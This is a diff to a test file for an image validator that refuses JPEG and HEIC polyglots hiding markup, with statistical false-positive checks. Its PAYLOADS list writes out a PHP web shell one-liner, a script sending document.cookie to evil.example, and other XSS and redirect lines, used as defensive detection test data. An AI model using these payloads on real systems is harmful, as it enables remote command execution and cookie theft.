@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import io
+import math
 import os
 import random
+import re
 import struct
 import tracemalloc
 import warnings
@@ -416,7 +418,7 @@ def test_garbled_exif_block_is_no_metadata(tmp_path):
 @pytest.mark.parametrize(
     ("body", "marker"),
     [
-        (b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>", "<!doctype html"),
+        (b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>", "<!doctype"),
         (
             b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
             "<svg",
@@ -435,28 +437,79 @@ def test_markup_named_jpg_is_refused(tmp_path, body, marker):
     assert marker in error.message("en") and marker in error.message("zh")
 
 
-def test_real_jpeg_with_an_html_tail_is_refused(tmp_path):
+# Markup and script of realistic length, with the marker find_markup names for each.
+PAYLOADS = [
+    (b"<?php system($_GET['c']); ?>", "<?php"),
+    (b"<?= system($_GET[0]) ?>", "<?="),
+    (b"<?= system($_GET['cmd']); ?>", "<?="),
+    (b"<script>fetch('//evil.example/?c='+document.cookie)</script>", "<script"),
+    (b"<!DOCTYPE html><title>x</title>", "<!doctype"),
+    (b"<html><body onload=alert(1)>", "<html"),
+    (b"<head><base href=//evil.example/>", "<head"),
+    (b"<body onload=alert(document.cookie)>", "<body"),
+    (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "<svg"),
+    (b'<?xml version="1.0"?><svg onload=alert(1)>', "<svg"),
+    (b"<img src=x onerror=alert(1)>", "<img"),
+    (b"<meta http-equiv=refresh content='0;url=//evil.example/'>", "<meta"),
+    (b"<a href=javascript:alert(document.domain)>open</a>", "<a"),
+    (b"<object data=//evil.example/x.swf>", "<object"),
+    (b"<embed src=//evil.example/x.swf>", "<embed"),
+    (b"<iframe src=//evil.example/>", "<iframe"),
+    (b"<style>@import'//evil.example/x.css'</style>", "<style"),
+    (b"<link rel=stylesheet href=//evil.example/x.css>", "<link"),
+    (b"<form action=//evil.example/login method=post>", "<form"),
+]
+# Caught where it ends the file (as an appended payload does), too short to be told from random
+# bytes anywhere else: 20 printable bytes after `<?=` are 52 bits of evidence, the bar is 56.
+AT_END_ONLY = {b"<?= system($_GET[0]) ?>"}
+
+
+@pytest.mark.parametrize(("payload", "marker"), PAYLOADS)
+def test_markup_appended_to_a_real_jpeg_is_refused(tmp_path, payload, marker):
     path = tmp_path / "polyglot.jpg"
-    path.write_bytes(
-        photo("jpg_gps_DSCN0010.jpg").read_bytes() + b"<html><script>alert(1)</script>"
-    )
-    refused(path, "evidence.markup_content")
+    path.write_bytes(photo("jpg_gps_DSCN0010.jpg").read_bytes() + payload)
+    assert refused(path, "evidence.markup_content").params["marker"] == marker
+
+
+@pytest.mark.parametrize(
+    ("payload", "marker"), [(p, m) for p, m in PAYLOADS if p not in AT_END_ONLY]
+)
+def test_markup_between_a_real_jpeg_and_a_video_trailer_is_refused(tmp_path, payload, marker):
+    video = random.Random(payload).randbytes(100_000)
+    path = tmp_path / "polyglot.jpg"
+    path.write_bytes(photo("jpg_gps_DSCN0010.jpg").read_bytes() + payload + b"\x00" + video)
+    assert refused(path, "evidence.markup_content").params["marker"] == marker
 
 
 def test_script_hidden_in_a_jpeg_comment_is_refused(tmp_path):
     path = tmp_path / "comment.jpg"
     Image.new("RGB", (16, 16)).save(path, "JPEG", comment=b"<ScRiPt>fetch('/x')</ScRiPt>")
-    refused(path, "evidence.markup_content")
+    assert refused(path, "evidence.markup_content").params["marker"] == "<script"
 
 
 def test_real_jpeg_with_a_motion_photo_trailer_is_accepted(tmp_path):
+    """A short video after the end marker: random bytes, '<' and all (one byte in 256)."""
     original = photo("jpg_gps_DSCN0010.jpg").read_bytes()
-    rng = random.Random(20240601)
-    video = bytes(b for b in rng.randbytes(200_000) if b != ord("<"))
+    video = random.Random(20240601).randbytes(4 << 20)
+    assert video.count(b"<") > 15_000
     path = tmp_path / "motion.jpg"
     path.write_bytes(original + b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + video)
     assert inspect(path) == inspect(photo("jpg_gps_DSCN0010.jpg"))
     make_thumbnail(path, tmp_path / "t.jpg")
+
+
+def test_heic_whose_hevc_data_holds_a_tag_opener_is_accepted(tmp_path):
+    """The audit's case: a valid HEIC refused because its compressed pixels happened to hold
+    `<sVg`. Made here from the real iPhone photo by writing those bytes into its HEVC data (which
+    still decodes: HEVC tolerates a damaged slice) instead of shipping the auditor's 3 MB file."""
+    data = bytearray(photo("heic_mobile_iphone_13_pro_max.HEIC").read_bytes())
+    middle = (data.index(b"mdat") + len(data)) // 2
+    data[middle : middle + 4] = b"<sVg"
+    path = tmp_path / "iphone.heic"
+    path.write_bytes(bytes(data))
+    assert re.search(rb"<svg", data, re.IGNORECASE)  # what the old scan refused
+    assert find_markup(path) is None
+    assert inspect(path).taken_at == datetime(2022, 2, 16, 12, 55, 41)
 
 
 def test_zero_bytes(tmp_path):
@@ -638,12 +691,72 @@ def test_sniff_the_real_heic():
 
 @given(
     prefix=st.binary(max_size=300).filter(lambda b: b"<" not in b),
-    token=st.sampled_from([b"<html", b"<ScRiPt", b"<SVG", b"<?php", b"<!DOCTYPE  html", b"<body"]),
+    case=st.sampled_from(PAYLOADS),
+    suffix=st.binary(min_size=1, max_size=300),
+    at_end=st.booleans(),
     chunk=st.integers(min_value=1, max_value=64),
 )
-def test_find_markup_across_chunk_boundaries(prefix, token, chunk):
-    found = find_markup(io.BytesIO(prefix + token + b" x>"), chunk=chunk)
-    assert found == " ".join(token.lower().decode().split())
+def test_find_markup_across_chunk_boundaries(prefix, case, suffix, at_end, chunk):
+    payload, marker = case
+    if at_end:
+        data = prefix + payload
+    elif payload in AT_END_ONLY:
+        return
+    else:
+        data = prefix + payload + b"\x00" + suffix
+    assert find_markup(io.BytesIO(data), chunk=chunk) == marker
+
+
+class _RandomBytes(io.RawIOBase):
+    """`size` seeded random bytes, made as they are read."""
+
+    def __init__(self, seed: int, size: int) -> None:
+        self.rng, self.left = random.Random(seed), size
+
+    def readable(self) -> bool:
+        return True
+
+    def read(self, n: int = -1) -> bytes:
+        n = min(self.left, n if n >= 0 else self.left)
+        self.left -= n
+        return self.rng.randbytes(n)
+
+
+def test_no_markup_in_256_mb_of_random_bytes():
+    """Compressed pixels, HEVC and video look like this. Tag openers are in it by the
+    thousand; none is followed by enough text to be markup."""
+    openers = re.compile(
+        b"<(?:" + b"|".join(re.escape(o.encode()) for o in imaging._MARKUP_OPENERS) + b")",
+        re.IGNORECASE,
+    )
+    seen = 0
+
+    class Counting(_RandomBytes):
+        def read(self, n: int = -1) -> bytes:
+            nonlocal seen
+            block = super().read(n)
+            seen += len(openers.findall(block))
+            return block
+
+    assert find_markup(Counting(seed=5, size=256 << 20)) is None
+    assert seen > 5_000
+
+
+def test_markup_false_positive_bound_is_what_the_comment_says():
+    """At one position random bytes match an opener and its run with probability 2**-bits;
+    summed over the openers that is the rate per byte the module's comment promises."""
+
+    def rate(bits: float) -> float:
+        total = 0.0
+        for opener in imaging._MARKUP_OPENERS:
+            p = 1 / 256 * math.prod(2 / 256 if c.isalpha() else 1 / 256 for c in opener)
+            if opener[-1].isalpha():
+                p *= 7 / 256
+            total += p * (98 / 256) ** imaging._markup_run(opener, bits)
+        return total
+
+    assert rate(imaging._MARKUP_BITS) <= 2.5e-16
+    assert rate(imaging._MARKUP_AT_END_BITS) / (1 - 98 / 256) <= 2.7e-11
 
 
 def test_find_markup_on_clean_photos():
